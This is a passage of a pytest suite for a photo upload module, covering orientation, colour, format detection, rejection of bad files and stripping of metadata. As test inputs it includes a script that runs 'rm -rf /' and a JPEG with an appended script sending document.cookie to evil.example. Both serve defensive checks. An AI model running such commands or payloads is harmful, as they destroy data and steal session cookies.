"""Upload checks and renditions (photos/imaging): pure image code, no database.

Images are made by the tests, small unless size is the point. The real phone photos in
/work/shared/data/photos are used when present (see SOURCES.md there) and skipped otherwise.
"""

from __future__ import annotations

import dataclasses
import hashlib
import io
import random
import re
import struct
import time
import zlib
from collections.abc import Iterator
from datetime import datetime, timedelta, timezone
from pathlib import Path

import imagehash
import pytest
from PIL import Image, ImageChops, ImageCms, ImageDraw, ImageFilter, ImageStat
from PIL.PngImagePlugin import PngInfo

from photos import imaging
from photos.imaging import (
    ImageDecodeError,
    ImageRejected,
    ProcessResult,
    RenderedFile,
    UploadPolicy,
    geometry,
    inspect_upload,
    process_image,
    sha256_of,
)

PHOTOS = Path(__file__).resolve().parents[3] / "shared" / "data" / "photos"

RED = (255, 0, 0)
GREEN = (0, 255, 0)
BLUE = (0, 0, 255)
YELLOW = (255, 255, 0)
WHITE = (255, 255, 255)

# The limits of config/settings.py, which the Django side turns into the real policy.
POLICY = UploadPolicy(
    max_bytes=25 * 1024 * 1024,
    max_pixels=50_000_000,
    min_short_side=320,
    formats=("JPEG", "MPO", "PNG", "WEBP", "HEIF", "AVIF"),
)


# --- making files ------------------------------------------------------------------------


def encode(image: Image.Image, fmt: str, **params: object) -> bytes:
    out = io.BytesIO()
    image.save(out, fmt, **params)
    return out.getvalue()


def quadrants(width: int = 480, height: int = 320) -> Image.Image:
    """Top-left red, top-right green, bottom-left blue, bottom-right yellow."""
    image = Image.new("RGB", (width, height))
    draw = ImageDraw.Draw(image)
    half_w, half_h = width // 2, height // 2
    draw.rectangle((0, 0, half_w - 1, half_h - 1), fill=RED)
    draw.rectangle((half_w, 0, width - 1, half_h - 1), fill=GREEN)
    draw.rectangle((0, half_h, half_w - 1, height - 1), fill=BLUE)
    draw.rectangle((half_w, half_h, width - 1, height - 1), fill=YELLOW)
    return image


def photo(width: int = 800, height: int = 600, seed: int = 0) -> Image.Image:
    """A picture with structure (for phash): a gradient and a few seeded shapes."""
    rng = random.Random(seed)
    image = Image.linear_gradient("L").resize((width, height)).convert("RGB")
    draw = ImageDraw.Draw(image)
    for _ in range(8):
        x, y = rng.randrange(width), rng.randrange(height)
        r = rng.randrange(width // 12, width // 4)
        colour = (rng.randrange(256), rng.randrange(256), rng.randrange(256))
        draw.ellipse((x - r, y - r, x + r, y + r), fill=colour)
    return image


def noise(width: int, height: int, seed: int = 0) -> Image.Image:
    """Incompressible pixels, so the entropy-coded part is most of a JPEG."""
    return Image.frombytes(
        "RGB", (width, height), random.Random(seed).randbytes(width * height * 3)
    )


def exif_with(**tags: object) -> Image.Exif:
    exif = Image.Exif()
    names = {"orientation": 0x0112, "datetime": 306, "description": 0x010E}
    sub = {"original": 36867, "offset_original": 36881, "offset": 36880}
    for name, value in tags.items():
        if name in names:
            exif[names[name]] = value
        else:
            exif.get_ifd(0x8769)[sub[name]] = value
    return exif


def gps_exif() -> Image.Exif:
    exif = Image.Exif()
    exif[0x010F] = "PhoneMaker"
    gps = exif.get_ifd(0x8825)
    gps[1] = "N"
    gps[2] = (48.0, 51.0, 24.0)
    gps[3] = "E"
    gps[4] = (2.0, 21.0, 3.0)
    return exif


def png_bytes(width: int, height: int, *, bit_depth: int, colour_type: int, raw: bytes) -> bytes:
    """A PNG written by hand, for what Pillow will not write (16-bit RGB, lying headers)."""

    def chunk(kind: bytes, data: bytes) -> bytes:
        return (
            struct.pack(">I", len(data)) + kind + data + struct.pack(">I", zlib.crc32(kind + data))
        )

    header = struct.pack(">IIBBBBB", width, height, bit_depth, colour_type, 0, 0, 0)
    return (
        b"\x89PNG\r\n\x1a\n"
        + chunk(b"IHDR", header)
        + chunk(b"IDAT", zlib.compress(raw))
        + chunk(b"IEND", b"")
    )


def inspect(data: bytes, policy: UploadPolicy | None = None) -> imaging.UploadInfo:
    return inspect_upload(io.BytesIO(data), size=len(data), policy=policy or POLICY)


def process(data: bytes, **kwargs: object) -> ProcessResult:
    kwargs.setdefault("policy", POLICY)
    return process_image(io.BytesIO(data), **kwargs)  # type: ignore[arg-type]


def rendition(result: ProcessResult, spec: str, fmt: str = "jpeg") -> RenderedFile:
    [found] = [f for f in result.files if f.spec == spec and f.format == fmt]
    return found


def opened(file: RenderedFile) -> Image.Image:
    image = Image.open(io.BytesIO(file.data))
    image.load()
    return image


def near(pixel: object, expected: tuple[int, ...], tolerance: int = 40) -> bool:
    assert isinstance(pixel, tuple)
    return all(abs(a - b) <= tolerance for a, b in zip(pixel, expected, strict=True))


def difference(a: Image.Image, b: Image.Image) -> float:
    """Mean absolute difference per channel, 0-255."""
    return sum(ImageStat.Stat(ImageChops.difference(a, b)).mean) / 3


def corners(image: Image.Image) -> tuple[object, object, object]:
    """Colours a quarter in from the top-left, top-right and bottom-left corners."""
    w, h = image.size
    return (
        image.getpixel((w // 4, h // 4)),
        image.getpixel((3 * w // 4, h // 4)),
        image.getpixel((w // 4, 3 * h // 4)),
    )


# --- orientation -------------------------------------------------------------------------

# Straight from the EXIF definitions of the tag ("0th row is the visual ..., 0th column is
# the visual ..."), not from Pillow: the colours the displayed top-left, top-right and
# bottom-left quarters must have when the stored image is `quadrants()`.
DISPLAYED_CORNERS = {
    1: (RED, GREEN, BLUE),
    2: (GREEN, RED, YELLOW),
    3: (YELLOW, BLUE, GREEN),
    4: (BLUE, YELLOW, RED),
    5: (RED, BLUE, GREEN),
    6: (BLUE, RED, YELLOW),
    7: (YELLOW, GREEN, BLUE),
    8: (GREEN, YELLOW, RED),
}


@pytest.mark.parametrize(
    ("fmt", "orientation"),
    [("JPEG", o) for o in range(1, 9)]
    + [("AVIF", o) for o in range(1, 9)]
    + [("WEBP", 6), ("PNG", 6), ("WEBP", 3), ("PNG", 8)],
)
def test_it_shows_every_exif_orientation_the_right_way_up(fmt: str, orientation: int) -> None:
    exif = exif_with(orientation=orientation).tobytes()
    data = encode(quadrants(480, 320), fmt, exif=exif, quality=95)
    shown = (320, 480) if orientation >= 5 else (480, 320)

    info = inspect(data)
    result = process(data)

    assert (info.width, info.height) == shown
    assert (result.metadata.width, result.metadata.height) == shown
    assert result.metadata.orientation == orientation
    for spec in ("display", "thumb", "share"):
        out = opened(rendition(result, spec))
        if spec == "display":
            assert out.size == shown
        found = corners(out)
        if spec == "share":
            continue  # a centre crop: its corners are not the photo's
        for colour, expected in zip(found, DISPLAYED_CORNERS[orientation], strict=True):
            assert near(colour, expected), (spec, found)


def test_it_keeps_the_orientation_in_the_cropped_share_image() -> None:
    stored = Image.new("RGB", (640, 480), RED)
    stored.paste(BLUE, (320, 0, 640, 480))  # left half red, right half blue
    data = encode(stored, "JPEG", exif=exif_with(orientation=6).tobytes())

    share = opened(rendition(process(data), "share"))

    # Orientation 6: the stored left column is the displayed top row.
    assert share.size == (1200, 630)
    assert near(share.getpixel((600, 20)), RED)
    assert near(share.getpixel((600, 610)), BLUE)


def test_it_does_not_rotate_a_heic_twice() -> None:
    # pillow-heif writes EXIF orientation 6 as an `irot` box and, reading it back, applies it
    # and reports orientation 1: the iPhone case.
    stored = quadrants(480, 320)
    data = encode(stored, "HEIF", exif=exif_with(orientation=6).tobytes(), quality=90)

    info = inspect(data)
    result = process(data)

    assert (info.format, info.extension) == ("HEIF", "heic")
    assert (result.metadata.width, result.metadata.height) == (320, 480)
    assert result.metadata.orientation == 1
    display = opened(rendition(result, "display"))
    assert display.size == (320, 480)
    for colour, expected in zip(corners(display), DISPLAYED_CORNERS[6], strict=True):
        assert near(colour, expected)


def test_it_shows_the_iphone_heic_with_exif_6_and_irot_as_portrait() -> None:
    path = PHOTOS / "heic_iphone13promax_exif-orient6_irot.heic"
    if not path.exists():
        pytest.skip("shared photos not present")
    with path.open("rb") as fp:
        result = process_image(fp, wanted={("display", "jpeg")}, policy=POLICY)
    assert (result.metadata.width, result.metadata.height) == (3024, 4032)
    assert opened(rendition(result, "display")).size == (1200, 1600)


def test_it_turns_the_pixels_of_a_square_webp_with_orientation_6() -> None:
    plain, turned = PHOTOS / "webp_hopper.webp", PHOTOS / "webp_hopper_orient6.webp"
    if not (plain.exists() and turned.exists()):
        pytest.skip("shared photos not present")
    upright = opened(rendition(process(plain.read_bytes()), "display"))
    result = opened(rendition(process(turned.read_bytes()), "display"))
    # The orient6 file stores the upright picture turned a quarter anticlockwise.
    as_stored = upright.transpose(Image.Transpose.ROTATE_90)

    assert difference(result, upright) < 8
    assert difference(result, as_stored) > 20


# --- colour ------------------------------------------------------------------------------


def test_it_converts_an_adobe_cmyk_jpeg_to_rgb() -> None:
    # Pillow writes CMYK JPEGs the Adobe way (inverted, APP14 marker), as Photoshop does.
    cmyk = Image.new("CMYK", (400, 400), (0, 255, 255, 0))  # no cyan, full magenta+yellow
    data = encode(cmyk, "JPEG", quality=95)
    assert Image.open(io.BytesIO(data)).info.get("adobe") is not None

    for file in process(data).files:
        image = opened(file)
        assert image.mode == "RGB"
        assert near(image.getpixel((image.width // 2, image.height // 2)), RED, 20)


def test_it_scales_16_bit_grey_to_8_bits_instead_of_clipping() -> None:
    grey = Image.new("I;16", (400, 400), 32768)
    grey.paste(65535, (0, 0, 200, 400))
    data = encode(grey, "PNG")
    assert Image.open(io.BytesIO(data)).mode.startswith("I")

    display = opened(rendition(process(data), "display"))

    assert near(display.getpixel((300, 200)), (128, 128, 128), 3)
    assert near(display.getpixel((100, 200)), WHITE, 3)


def test_it_reads_16_bit_rgb_png() -> None:
    raw = b"".join(b"\x00" + struct.pack(">HHH", 65535, 32768, 0) * 400 for _ in range(400))
    data = png_bytes(400, 400, bit_depth=16, colour_type=2, raw=raw)

    display = opened(rendition(process(data), "display"))

    assert near(display.getpixel((200, 200)), (255, 128, 0), 3)


def transparent_palette() -> Image.Image:
    image = Image.new("P", (400, 400), 0)
    image.putpalette([0, 0, 0, 255, 0, 0])  # 0: black, 1: red
    image.paste(1, (200, 0, 400, 400))
    image.info["transparency"] = 0
    return image


def half_transparent(mode: str, opaque: tuple[int, ...]) -> Image.Image:
    image = Image.new(mode, (400, 400), (0,) * len(mode))
    image.paste(opaque, (200, 0, 400, 400))
    return image


@pytest.mark.parametrize(
    ("image", "fmt", "opaque"),
    [
        (transparent_palette(), "PNG", RED),
        (half_transparent("RGBA", (0, 0, 255, 255)), "PNG", BLUE),
        (half_transparent("LA", (0, 255)), "PNG", (0, 0, 0)),
        (half_transparent("RGBA", (0, 0, 255, 255)), "WEBP", BLUE),
    ],
    ids=["palette-trns", "rgba-png", "la-png", "rgba-webp"],
)
def test_it_puts_transparent_pixels_on_white(image: Image.Image, fmt: str, opaque: tuple) -> None:
    data = encode(image, fmt, lossless=True) if fmt == "WEBP" else encode(image, fmt)

    for file in process(data).files:
        out = opened(file)
        assert out.mode == "RGB"
        # Black (or whatever the transparent pixels hold) must not show.
        assert near(out.getpixel((out.width // 8, out.height // 2)), WHITE, 8), file.spec
        assert near(out.getpixel((out.width * 7 // 8, out.height // 2)), opaque, 30), file.spec


def test_it_reads_bilevel_and_grey_pngs_as_rgb() -> None:
    bilevel = Image.new("1", (400, 400), 0)
    bilevel.paste(1, (200, 0, 400, 400))
    for source in (bilevel, bilevel.convert("L")):
        display = opened(rendition(process(encode(source, "PNG")), "display", "webp"))
        assert display.mode == "RGB"
        assert near(display.getpixel((100, 200)), (0, 0, 0), 8)
        assert near(display.getpixel((300, 200)), WHITE, 8)


def test_it_converts_a_display_p3_photo_to_srgb() -> None:
    source = PHOTOS / "jpeg_iphone13mini_hdr-gainmap_mpo.jpg"
    if not source.exists():
        pytest.skip("shared photos not present")
    p3 = Image.open(source).info["icc_profile"]
    assert "P3" in ImageCms.getProfileDescription(ImageCms.ImageCmsProfile(io.BytesIO(p3)))
    colour = (40, 200, 60)  # a P3 green that sRGB cannot hold as such
    data = encode(Image.new("RGB", (400, 400), colour), "PNG", icc_profile=p3)
    expected = ImageCms.profileToProfile(
        Image.new("RGB", (1, 1), colour),
        ImageCms.ImageCmsProfile(io.BytesIO(p3)),
        ImageCms.createProfile("sRGB"),
        outputMode="RGB",
    )
    assert expected is not None

    display = opened(rendition(process(data), "display", "webp"))

    pixel = display.getpixel((200, 200))
    assert near(pixel, expected.getpixel((0, 0)), 4)
    assert not near(pixel, colour, 10)


def test_it_falls_back_to_plain_colours_when_the_profile_is_garbage() -> None:
    data = encode(Image.new("RGB", (400, 400), (40, 200, 60)), "PNG", icc_profile=b"not icc")

    display = opened(rendition(process(data), "display", "webp"))

    assert near(display.getpixel((200, 200)), (40, 200, 60), 6)


def test_it_leaves_srgb_pixels_alone() -> None:
    srgb = ImageCms.ImageCmsProfile(ImageCms.createProfile("sRGB")).tobytes()
    data = encode(Image.new("RGB", (400, 400), (40, 200, 60)), "PNG", icc_profile=srgb)

    display = opened(rendition(process(data), "display", "webp"))

    assert near(display.getpixel((200, 200)), (40, 200, 60), 6)


# --- formats -----------------------------------------------------------------------------


def test_it_reads_heic() -> None:
    data = encode(quadrants(480, 320), "HEIF", quality=90)

    result = process(data)

    assert result.metadata.format == "HEIF"
    assert opened(rendition(result, "display")).size == (480, 320)


def test_it_round_trips_avif_with_pillows_own_decoder() -> None:
    data = encode(quadrants(480, 320), "AVIF", quality=90)
    assert data[4:12] == b"ftypavif"

    info = inspect(data)
    result = process(data)

    assert (info.format, info.extension) == ("AVIF", "avif")
    display = opened(rendition(result, "display", "webp"))
    for colour, expected in zip(corners(display), DISPLAYED_CORNERS[1], strict=True):
        assert near(colour, expected)


@pytest.mark.parametrize(("fmt", "expected"), [("AVIF", "AVIF"), ("HEIF", "HEIF")])
def test_it_tells_avif_from_heic_when_both_say_mif1(fmt: str, expected: str) -> None:
    # Both plugins claim the generic "mif1" brand; each must end up with its own decoder.
    data = encode(quadrants(480, 320), fmt, quality=90)
    data = data[:8] + b"mif1" + data[12:]

    assert inspect(data).format == expected
    assert process(data).metadata.format == expected


def test_it_uses_the_first_frame_of_an_mpo() -> None:
    first, gain_map = Image.new("RGB", (400, 400), RED), Image.new("RGB", (200, 200), BLUE)
    data = encode(first, "MPO", save_all=True, append_images=[gain_map])
    assert Image.open(io.BytesIO(data)).n_frames == 2

    info = inspect(data)
    display = opened(rendition(process(data), "display"))

    assert (info.format, info.extension) == ("MPO", "jpg")
    assert display.size == (400, 400)
    assert near(display.getpixel((200, 200)), RED, 10)


def test_it_uses_the_first_frame_of_the_iphone_mpo() -> None:
    path = PHOTOS / "jpeg_iphone13mini_hdr-gainmap_mpo.jpg"
    if not path.exists():
        pytest.skip("shared photos not present")
    with Image.open(path) as mpo:
        frame0 = mpo.convert("RGB")
        mpo.seek(1)
        frame1 = mpo.convert("RGB").resize(frame0.size)

    result = process(path.read_bytes())

    display = opened(rendition(result, "display"))
    assert result.metadata.format == "MPO"
    assert display.size == frame0.size == (384, 512)
    # Colour management moves the pixels a little; the gain map is another picture.
    assert difference(display, frame0) < 10
    assert difference(display, frame1) > 3 * difference(display, frame0)


@pytest.mark.parametrize(
    "data",
    [
        encode(photo(400, 400), "GIF"),
        encode(photo(400, 400), "TIFF"),
        encode(photo(400, 400), "BMP"),
        b'<svg xmlns="http://www.w3.org/2000/svg" width="400" height="400"><rect/></svg>',
        b"<!doctype html><html><body><script>alert(1)</script></body></html>",
        b"#!/usr/bin/env python3\nimport os\nos.system('rm -rf /')\n",
        random.Random(1).randbytes(5000),
    ],
    ids=["gif", "tiff", "bmp", "svg", "html", "script", "garbage"],
)
def test_it_refuses_what_is_not_an_accepted_image(data: bytes) -> None:
    with pytest.raises(ImageRejected) as refused:
        inspect(data)
    with pytest.raises(ImageDecodeError) as failed:
        process(data)

    assert refused.value.code == "unsupported_format"
    assert failed.value.code == "unsupported_format"


def test_it_goes_by_the_bytes_not_the_file_name(tmp_path: Path) -> None:
    png_named_jpg = tmp_path / "holiday.jpg"
    png_named_jpg.write_bytes(encode(photo(400, 400), "PNG"))
    jpeg_named_png = tmp_path / "holiday.png"
    jpeg_named_png.write_bytes(encode(photo(400, 400), "JPEG"))

    with png_named_jpg.open("rb") as fp:
        assert (
            inspect_upload(fp, size=png_named_jpg.stat().st_size, policy=POLICY).extension == "png"
        )
    with jpeg_named_png.open("rb") as fp:
        assert (
            inspect_upload(fp, size=jpeg_named_png.stat().st_size, policy=POLICY).extension == "jpg"
        )


# --- refusals ----------------------------------------------------------------------------


def test_it_refuses_an_empty_file() -> None:
    with pytest.raises(ImageRejected) as refused:
        inspect_upload(io.BytesIO(b""), size=0, policy=POLICY)
    assert refused.value.code == "empty"


def test_it_refuses_a_file_over_the_size_limit_by_its_size() -> None:
    data = encode(photo(400, 400), "JPEG")

    with pytest.raises(ImageRejected) as refused:
        inspect_upload(io.BytesIO(data), size=25 * 1024 * 1024 + 1, policy=POLICY)
    inspect_upload(io.BytesIO(data), size=25 * 1024 * 1024, policy=POLICY)

    assert refused.value.code == "too_large"
    assert refused.value.params == {"max_mb": 25}


def test_it_refuses_a_file_over_the_size_limit_when_processing() -> None:
    data = encode(noise(400, 400), "PNG")

    with pytest.raises(ImageDecodeError) as failed:
        process(data, policy=dataclasses.replace(POLICY, max_bytes=len(data) - 1))

    assert failed.value.code == "too_large"


@pytest.mark.parametrize(("width", "height"), [(300, 1000), (1000, 300), (319, 5000)])
def test_it_refuses_a_photo_with_a_short_side_under_320(width: int, height: int) -> None:
    with pytest.raises(ImageRejected) as refused:
        inspect(encode(photo(width, height), "JPEG"))

    assert refused.value.code == "too_small"
    assert refused.value.params == {"width": width, "height": height, "min_side": 320}


def test_it_accepts_a_320_pixel_square() -> None:
    info = inspect(encode(photo(320, 320), "JPEG"))

    assert (info.format, info.extension, info.width, info.height) == ("JPEG", "jpg", 320, 320)


def lying_png(width: int, height: int) -> bytes:
    """A PNG header claiming a huge picture, with a few bytes of pixel data."""
    return png_bytes(width, height, bit_depth=8, colour_type=0, raw=b"\x00" * 1000)


@pytest.mark.parametrize(("width", "height", "megapixels"), [(20000, 20000, 400), (8000, 8000, 64)])
def test_it_refuses_a_pixel_bomb_from_its_header_without_decoding(
    width: int, height: int, megapixels: int
) -> None:
    # 20000x20000 also trips Pillow's own bomb check; 8000x8000 is under Pillow's limit but
    # over ours.
    data = lying_png(width, height)
    assert len(data) < 200

    started = time.perf_counter()
    with pytest.raises(ImageRejected) as refused:
        inspect(data)
    with pytest.raises(ImageDecodeError) as failed:
        process(data)
    elapsed = time.perf_counter() - started

    assert refused.value.code == "too_many_pixels"
    assert refused.value.params == {"megapixels": megapixels, "max_megapixels": 50}
    assert failed.value.code == "too_many_pixels"
    assert elapsed < 1


@pytest.mark.parametrize("fmt", ["JPEG", "PNG", "HEIF"])
def test_it_finds_a_truncated_file_corrupt(fmt: str) -> None:
    data = encode(noise(640, 480), fmt, quality=90)
    truncated = data[: len(data) * 6 // 10]

    with pytest.raises(ImageRejected) as refused:
        inspect(truncated)
    with pytest.raises(ImageDecodeError) as failed:
        process(truncated)

    assert refused.value.code == "corrupt"
    assert failed.value.code == "corrupt"


def test_it_finds_a_png_with_a_broken_checksum_corrupt() -> None:
    data = bytearray(encode(noise(400, 400), "PNG"))
    data[len(data) // 2] ^= 0xFF

    with pytest.raises(ImageRejected) as refused:
        inspect(bytes(data))

    assert refused.value.code == "corrupt"


def test_it_does_not_take_an_error_reading_the_file_for_a_bad_photo() -> None:
    class Flaky(io.BytesIO):
        def read(self, size: int | None = -1) -> bytes:
            if self.tell() > 0:
                raise ConnectionResetError("storage went away")
            return super().read(1000)

    with pytest.raises(ConnectionResetError):
        process_image(Flaky(encode(photo(400, 400), "JPEG")), policy=POLICY)


# --- privacy -----------------------------------------------------------------------------

LEAKS = (b"Exif", b"GPS", b"http://ns.adobe.com/xap", b"ICC_PROFILE", b"iCCP", b"SECRET")


def assert_bare(result: ProcessResult) -> None:
    for file in result.files:
        for leak in LEAKS:
            assert leak not in file.data, (file.spec, file.format, leak)
        image = opened(file)
        assert len(image.getexif()) == 0
        for key in ("exif", "icc_profile", "xmp", "comment", "photoshop"):
            assert key not in image.info, (file.spec, file.format, key)


def test_it_records_gps_but_publishes_no_exif() -> None:
    data = encode(photo(600, 400), "JPEG", exif=gps_exif().tobytes())

    result = process(data)

    assert result.metadata.had_gps is True
    assert_bare(result)


def test_it_says_when_a_photo_had_no_gps() -> None:
    data = encode(photo(600, 400), "JPEG", exif=exif_with(orientation=1).tobytes())

    assert process(data).metadata.had_gps is False


def test_it_drops_huge_jpeg_metadata_from_the_renditions() -> None:
    exif = gps_exif()
    exif[0x010E] = "SECRET description " + "x" * 60_000
    xmp = (
        b'<x:xmpmeta xmlns:x="adobe:ns:meta/"><rdf:RDF><rdf:Description>SECRET '
        + b"y" * 60_000
        + b"</rdf:Description></rdf:RDF></x:xmpmeta>"
    )
    srgb = ImageCms.ImageCmsProfile(ImageCms.createProfile("sRGB")).tobytes()
    data = encode(
        photo(600, 400),
        "JPEG",
        exif=exif.tobytes(),
        xmp=xmp,
        comment=b"SECRET comment",
        icc_profile=srgb,
    )
    original = Image.open(io.BytesIO(data))
    assert {"exif", "xmp", "comment", "icc_profile"} <= set(original.info)
    assert len(data) > 120_000

    result = process(data)

    assert_bare(result)
    assert all(len(file.data) < 100_000 for file in result.files)


def test_it_drops_png_text_chunks_from_the_renditions() -> None:
    text = PngInfo()
    text.add_text("Comment", "SECRET " + "z" * 100_000)
    text.add_text("Author", "SECRET author", zip=True)
    text.add_itxt("XML:com.adobe.xmp", "SECRET http://ns.adobe.com/xap/1.0/ " + "w" * 50_000)
    data = encode(photo(600, 400), "PNG", pnginfo=text, exif=gps_exif().tobytes())

    result = process(data)

    assert result.metadata.had_gps is True
    assert_bare(result)


def test_it_accepts_a_jpeg_with_a_script_after_its_end_and_drops_the_script() -> None:
    payload = b"<html><script>fetch('//evil.example/'+document.cookie)</script></html>"
    data = encode(photo(600, 400), "JPEG") + payload

    info = inspect(data)
    result = process(data)

    assert info.format == "JPEG"
    for file in result.files:
        assert b"<script>" not in file.data
        assert b"evil.example" not in file.data


# --- metadata ----------------------------------------------------------------------------


@pytest.mark.parametrize(
    ("tags", "expected"),
    [
        ({"original": "2024:05:06 07:08:09"}, datetime(2024, 5, 6, 7, 8, 9)),  # noqa: DTZ001
        (
            {"original": "2024:05:06 07:08:09", "offset_original": "+02:00"},
            datetime(2024, 5, 6, 7, 8, 9, tzinfo=timezone(timedelta(hours=2))),
        ),
        (
            {"original": "2024:05:06 07:08:09", "offset_original": "-05:30"},
            datetime(2024, 5, 6, 7, 8, 9, tzinfo=timezone(-timedelta(hours=5, minutes=30))),
        ),
        ({"datetime": "2023:01:02 03:04:05"}, datetime(2023, 1, 2, 3, 4, 5)),  # noqa: DTZ001
        (
            {"original": "2024:05:06 07:08:09", "datetime": "2023:01:02 03:04:05"},
            datetime(2024, 5, 6, 7, 8, 9),  # noqa: DTZ001
        ),
        ({"original": "0000:00:00 00:00:00"}, None),
        ({"original": "    :  :     :  :  "}, None),
        ({}, None),
    ],
    ids=[
        "naive",
        "offset",
        "negative-offset",
        "datetime-fallback",
        "original-first",
        "zeros",
        "blank",
        "absent",
    ],
)
def test_it_reads_when_the_photo_was_taken(tags: dict, expected: datetime | None) -> None:
    data = encode(photo(400, 400), "JPEG", exif=exif_with(**tags).tobytes())

    assert process(data).metadata.taken_at == expected


def test_it_hashes_the_original_bytes() -> None:
    data = encode(photo(400, 400), "JPEG")

    assert process(data).metadata.sha256 == hashlib.sha256(data).hexdigest()


def test_it_streams_sha256_and_rewinds() -> None:
    data = random.Random(3).randbytes(3 * 1024 * 1024 + 17)
    fp = io.BytesIO(data)
    fp.seek(0, io.SEEK_END)

    assert sha256_of(fp) == hashlib.sha256(data).hexdigest()
    assert fp.tell() == 0


def test_it_leaves_the_upload_at_the_start_whatever_the_verdict() -> None:
    good, bad = io.BytesIO(encode(photo(400, 400), "JPEG")), io.BytesIO(b"GIF89a nope")
    inspect_upload(good, size=len(good.getvalue()), policy=POLICY)
    with pytest.raises(ImageRejected):
        inspect_upload(bad, size=len(bad.getvalue()), policy=POLICY)

    assert good.tell() == 0
    assert bad.tell() == 0


def phash_distance(a: str, b: str) -> int:
    return imagehash.hex_to_hash(a) - imagehash.hex_to_hash(b)


def test_it_gives_the_same_photo_at_another_size_a_close_phash() -> None:
    original = photo(1600, 1200, seed=7)
    big = process(encode(original, "JPEG", quality=92)).metadata.phash
    small = process(encode(original.resize((640, 480)), "WEBP", quality=60)).metadata.phash
    other = process(encode(photo(1600, 1200, seed=8), "JPEG", quality=92)).metadata.phash

    assert len(big) == 16
    assert re.fullmatch(r"[0-9a-f]{16}", big)
    assert phash_distance(big, small) <= 4
    assert phash_distance(big, other) >= 12


def test_it_gives_the_same_metadata_whatever_is_wanted() -> None:
    data = encode(photo(3200, 2400, seed=2), "JPEG", quality=90)

    everything = process(data).metadata
    thumb_only = process(data, wanted={("thumb", "webp")}).metadata

    assert everything == thumb_only


# --- sizes -------------------------------------------------------------------------------


def test_it_makes_only_the_wanted_files() -> None:
    data = encode(photo(800, 600), "JPEG")

    some = process(data, wanted={("thumb", "webp"), ("share", "jpeg"), ("nothing", "gif")})
    none = process(data, wanted=set())

    assert [(f.spec, f.format) for f in some.files] == [("thumb", "webp"), ("share", "jpeg")]
    assert none.files == ()
    assert none.metadata.width == 800


def test_it_makes_every_rendition_by_default() -> None:
    result = process(encode(photo(800, 600), "JPEG"))

    assert [(f.spec, f.format) for f in result.files] == [
        ("thumb", "webp"),
        ("thumb", "jpeg"),
        ("display", "webp"),
        ("display", "jpeg"),
        ("share", "jpeg"),
    ]
    for file in result.files:
        image = opened(file)
        assert image.format == file.format.upper()
        assert image.size == (file.width, file.height)


@pytest.mark.parametrize(
    ("size", "display", "thumb"),
    [
        ((3200, 2400), (1600, 1200), (480, 360)),
        ((2400, 3200), (1200, 1600), (360, 480)),
        ((4000, 1000), (1600, 400), (480, 120)),
        ((500, 400), (500, 400), (480, 384)),
        ((400, 320), (400, 320), (400, 320)),
    ],
)
def test_it_fits_display_and_thumb_without_upscaling(
    size: tuple[int, int], display: tuple[int, int], thumb: tuple[int, int]
) -> None:
    result = process(encode(photo(*size), "JPEG", quality=85))

    assert opened(rendition(result, "display", "webp")).size == display
    assert opened(rendition(result, "display", "jpeg")).size == display
    assert opened(rendition(result, "thumb", "webp")).size == thumb
    assert opened(rendition(result, "thumb", "jpeg")).size == thumb


def test_it_never_decodes_a_jpeg_smaller_than_the_display_needs() -> None:
    # 3200x2400 lets the decoder halve exactly to 1600x1200; any smaller scaled decode
    # would have to be blown up again and loses these 16 px blocks' sharp edges.
    blocks = Image.frombytes("RGB", (200, 150), random.Random(5).randbytes(200 * 150 * 3))
    sharp = blocks.resize((3200, 2400), Image.Resampling.NEAREST)
    reference = sharp.resize((1600, 1200), Image.Resampling.LANCZOS)
    data = encode(sharp, "JPEG", quality=95)

    result = process(data, wanted={("display", "webp"), ("display", "jpeg")})

    for file in result.files:
        assert difference(opened(file), reference) < 10.5, file.format


@pytest.mark.parametrize("size", [(400, 320), (320, 400), (3000, 400), (400, 3000), (2400, 1800)])
def test_it_makes_the_share_image_exactly_1200_by_630(size: tuple[int, int]) -> None:
    share = rendition(process(encode(photo(*size), "JPEG")), "share")

    assert (share.width, share.height) == (1200, 630)
    assert opened(share).size == (1200, 630)


def test_it_crops_the_share_image_from_the_centre() -> None:
    panorama = Image.new("RGB", (3000, 400), RED)
    panorama.paste(GREEN, (1000, 0, 2000, 400))
    panorama.paste(BLUE, (2000, 0, 3000, 400))

    share = opened(rendition(process(encode(panorama, "PNG")), "share"))

    # Squeezed instead of cropped, the left edge would be red and the right blue.
    for x in (5, 600, 1194):
        assert near(share.getpixel((x, 315)), GREEN, 20)


# --- geometry: plain numbers -------------------------------------------------------------


@pytest.mark.parametrize(
    ("orientation", "shown"),
    [(o, (4000, 3000)) for o in (1, 2, 3, 4)] + [(o, (3000, 4000)) for o in (5, 6, 7, 8)],
)
def test_it_swaps_width_and_height_for_orientations_5_to_8(
    orientation: int, shown: tuple[int, int]
) -> None:
    assert geometry.shown_size((4000, 3000), orientation) == shown
    assert geometry.stored_size(shown, orientation) == (4000, 3000)


@pytest.mark.parametrize(
    ("shown", "box", "expected"),
    [
        ((4000, 3000), (1600, 1600), (1600, 1200)),
        ((3000, 4000), (1600, 1600), (1200, 1600)),
        ((4000, 1000), (480, 480), (480, 120)),
        ((500, 400), (1600, 1600), (500, 400)),
        ((10000, 3), (1600, 1600), (1600, 1)),
    ],
)
def test_it_fits_a_size_inside_a_box_without_upscaling(
    shown: tuple[int, int], box: tuple[int, int], expected: tuple[int, int]
) -> None:
    assert geometry.contain_size(shown, box) == expected


def test_it_cuts_a_centred_dl_box_from_a_landscape_photo() -> None:
    left, top, right, bottom = geometry.cover_crop((4000, 3000), (99, 210))

    assert (top, bottom) == (0, 3000)  # the full height
    assert (right - left) / (bottom - top) == pytest.approx(99 / 210)
    assert left == pytest.approx(4000 - right)  # as much left out on each side
    assert geometry.cover_size((4000, 3000), (99, 210)) == pytest.approx((3000 * 99 / 210, 3000))


def test_it_cuts_a_centred_wide_box_from_a_portrait_photo() -> None:
    assert geometry.cover_crop((3000, 4000), (1200, 630)) == (0, 1212.5, 3000, 2787.5)


def test_it_keeps_the_whole_photo_when_its_shape_is_already_right() -> None:
    assert geometry.cover_crop((4000, 3000), (400, 300)) == (0, 0, 4000, 3000)


def test_it_decodes_at_the_smallest_scale_every_output_still_fits() -> None:
    outputs = [(480, 360), (1600, 1200), (1200, 630)]

    assert geometry.decode_scale((3200, 2400), outputs, min_long_side=256) == 0.5
    assert geometry.decode_scale((4000, 3000), [(40, 30)], min_long_side=256) == 256 / 4000
    assert geometry.decode_scale((800, 600), outputs, min_long_side=256) == 1.0


def test_it_rounds_a_scaled_size_up_but_not_by_rounding_noise() -> None:
